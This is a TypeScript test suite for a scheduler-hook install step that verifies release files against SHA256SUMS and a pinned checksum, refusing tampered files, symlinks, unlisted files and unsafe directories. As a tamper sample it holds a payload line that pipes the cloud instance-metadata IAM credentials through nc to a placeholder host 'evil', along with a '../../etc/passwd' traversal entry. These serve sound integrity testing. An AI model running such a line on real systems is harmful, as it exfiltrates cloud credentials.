/**
 * The install-hooks boot step: the scheduler hooks and launchers root (or the scheduler) runs are
 * installed from the release, checked against its SHA256SUMS, into the local root-owned install
 * dir; the copy on shared storage is never what runs, and a tampered file is refused by name.
 * Real scripts, the real sha256sum, the files the real renderer writes (Grid Engine: its starter
 * runs on the controllers as the job's owner, under root's sge_execd).
 */
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { renderSchedulerFiles, withChecksums } from '../../lib/scheduler/render';
import { DEFAULT_SCHEDULER_SETTINGS, type RenderedFiles } from '../../lib/scheduler/types';
import { Sandbox } from './harness';

const INSTALL = '/usr/libexec/xspot-cdk/scheduler';
const FILES: RenderedFiles = withChecksums(
  renderSchedulerFiles({ ...DEFAULT_SCHEDULER_SETTINGS, type: 'gridengine' }, ['gridengine']),
);
const PIN = createHash('sha256').update(FILES.SHA256SUMS.content).digest('hex');
const STARTER = 'gridengine/xspot_starter';
const PAYLOAD = '\ncurl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | nc evil 80\n';

let s: Sandbox;
beforeEach(() => {
  s = new Sandbox();
  const conf = path.join(s.release, 'conf', 'sched-wrapper');
  fs.rmSync(conf, { recursive: true, force: true });
  writeFiles(conf, FILES);
});
afterEach(() => s.cleanup());

function writeFiles(dir: string, files: RenderedFiles): void {
  for (const [rel, f] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), f.content, { mode: f.mode });
    fs.chmodSync(path.join(dir, rel), f.mode);
  }
}
const installed = (rel: string) => s.read(`${INSTALL}/${rel}`);
const modeOf = (logical: string) => fs.statSync(s.path(logical)).mode & 0o7777;
const ownerOf = (logical: string) => fs.statSync(s.path(logical)).uid;
const tamper = (logical: string) => fs.appendFileSync(s.path(logical), PAYLOAD);
const releaseConf = (rel: string) => `/opt/xspot-cdk/releases/${s.version}/conf/sched-wrapper/${rel}`;
const published = (rel: string) => `/efs/deploy/scripts/${s.version}/tools/sched-wrapper/${rel}`;

test('installs every rendered file, root-owned with its rendered mode, into root-owned 0755 directories', () => {
  const r = s.run('scripts/install-hooks.sh');
  expect({ status: r.status, output: r.status === 0 ? '' : r.output }).toEqual({ status: 0, output: '' });
  for (const [rel, f] of Object.entries(FILES)) {
    expect({ rel, content: installed(rel) }).toEqual({ rel, content: f.content });
    expect({ rel, mode: modeOf(`${INSTALL}/${rel}`), uid: ownerOf(`${INSTALL}/${rel}`) }).toEqual({
      rel,
      mode: f.mode,
      uid: 0,
    });
  }
  for (const d of [INSTALL, `${INSTALL}/gridengine`]) expect([d, modeOf(d), ownerOf(d)]).toEqual([d, 0o755, 0]);
  // what the scheduler is told to run is that local copy
  expect(installed('gridengine/xspot.queue')).toMatch(new RegExp(`^starter_method\\s+${INSTALL}/${STARTER}$`, 'm'));
});

test('a second run changes nothing; a file no longer rendered is removed', () => {
  expect(s.run('scripts/install-hooks.sh').status).toBe(0);
  const before = s.snapshot();
  const r = s.run('scripts/install-hooks.sh');
  expect(r.stdout).toContain('is up to date');
  expect(s.snapshot()).toEqual(before);
  s.write(`${INSTALL}/gridengine/old_starter`, '#!/bin/sh\n', 0o755);
  expect(s.run('scripts/install-hooks.sh').status).toBe(0);
  expect(s.exists(`${INSTALL}/gridengine/old_starter`)).toBe(false);
});

test('at boot the copy on shared storage is never installed, even when someone rewrote it', () => {
  expect(s.run('bin/bootstrap.sh').status).toBe(0);
  expect(s.read(published(STARTER))).toBe(FILES[STARTER].content);
  tamper(published(STARTER));
  s.write(published('gridengine/extra'), '#!/bin/sh\nid\n', 0o755);
  expect(s.run('bin/bootstrap.sh').status).toBe(0);
  expect(installed(STARTER)).toBe(FILES[STARTER].content);
  expect(s.exists(`${INSTALL}/gridengine/extra`)).toBe(false);
});

test('a release file that does not match SHA256SUMS is refused by name and nothing is installed', () => {
  tamper(releaseConf(STARTER));
  const r = s.run('scripts/install-hooks.sh');
  expect(r.status).not.toBe(0);
  expect(r.output).toContain(`${STARTER}: FAILED`);
  expect(r.output).toContain('refusing to install anything');
  expect(s.exists(`${INSTALL}/gridengine/jsv_xspot`)).toBe(false);
});

test('the boot fails at install-hooks when a hook does not match', () => {
  tamper(releaseConf(STARTER));
  const r = s.run('bin/bootstrap.sh');
  expect(r.status).not.toBe(0);
  expect(r.output).toContain('XSPOT-BOOTSTRAP-FAILED step=install-hooks');
  expect(s.exists(`${INSTALL}/${STARTER}`)).toBe(false);
});

test.each<[string, () => void, string]>([
  [
    'a file SHA256SUMS does not list',
    () => s.write(releaseConf('gridengine/extra.sh'), '#!/bin/sh\nid\n', 0o755),
    'gridengine/extra.sh: in ',
  ],
  [
    'a listed file that is missing',
    () => fs.rmSync(s.path(releaseConf('gridengine/jsv_xspot'))),
    'gridengine/jsv_xspot: listed in SHA256SUMS but missing',
  ],
  [
    'a listed file replaced by a link',
    () => {
      fs.rmSync(s.path(releaseConf(STARTER)));
      fs.symlinkSync('/bin/sh', s.path(releaseConf(STARTER)));
    },
    `${STARTER}: listed in SHA256SUMS but missing or not a regular file`,
  ],
  ['no SHA256SUMS', () => fs.rmSync(s.path(releaseConf('SHA256SUMS'))), 'SHA256SUMS: missing'],
  [
    'a SHA256SUMS path that climbs out',
    () => fs.appendFileSync(s.path(releaseConf('SHA256SUMS')), `${'0'.repeat(64)}  ../../etc/passwd\n`),
    "path '../../etc/passwd' is not allowed",
  ],
])('refuses %s, naming it', (_what, setup, message) => {
  setup();
  const r = s.run('scripts/install-hooks.sh');
  expect(r.status).not.toBe(0);
  expect(r.output).toContain(message);
  expect(s.exists(`${INSTALL}/${STARTER}`)).toBe(false);
});

test.each<[string, () => void, string]>([
  ['writable by others', () => fs.chmodSync(s.path('/usr/libexec'), 0o777), '/usr/libexec: mode 777 is writable'],
  ['owned by a user', () => fs.chownSync(s.path('/usr/libexec'), 65534, 65534), '/usr/libexec: owned by uid 65534'],
])('refuses an install dir below a directory %s', (_what, setup, message) => {
  fs.mkdirSync(s.path('/usr/libexec'), { recursive: true, mode: 0o755 });
  setup();
  const r = s.run('scripts/install-hooks.sh');
  expect(r.status).not.toBe(0);
  expect(r.output).toContain(message);
  expect(s.exists(`${INSTALL}/${STARTER}`)).toBe(false);
});

describe('--from the published copy (a head node or submit host), pinned by the checksum render printed', () => {
  const fromShared = (pin = PIN) =>
    s.run('scripts/install-hooks.sh', ['--from', s.path(published('')), '--sums-sha256', pin, '--into', INSTALL]);
  beforeEach(() => writeFiles(s.path(published('')), FILES));

  test('an untouched copy installs', () => {
    const r = fromShared();
    expect({ status: r.status, output: r.status === 0 ? '' : r.output }).toEqual({ status: 0, output: '' });
    expect(installed(STARTER)).toBe(FILES[STARTER].content);
  });

  test('a tampered file is refused by name', () => {
    tamper(published(STARTER));
    const r = fromShared();
    expect(r.status).not.toBe(0);
    expect(r.output).toContain(`${STARTER}: FAILED`);
    expect(s.exists(`${INSTALL}/${STARTER}`)).toBe(false);
  });

  test('a tampered file with a SHA256SUMS rewritten to match is refused by the pin', () => {
    tamper(published(STARTER));
    const sums = s
      .read(published('SHA256SUMS'))
      .split('\n')
      .map((l) =>
        l.endsWith(`  ${STARTER}`)
          ? `${createHash('sha256')
              .update(s.read(published(STARTER)))
              .digest('hex')}  ${STARTER}`
          : l,
      )
      .join('\n');
    s.write(published('SHA256SUMS'), sums);
    const r = fromShared();
    expect(r.status).not.toBe(0);
    expect(r.output).toContain(`is not the pinned ${PIN}: refusing to install`);
    expect(s.exists(`${INSTALL}/${STARTER}`)).toBe(false);
  });

  test('a pin that is not a checksum is refused, naming the flag', () => {
    const r = fromShared('latest');
    expect(r.status).not.toBe(0);
    expect(r.output).toContain("--sums-sha256: 'latest' is not allowed");
  });
});
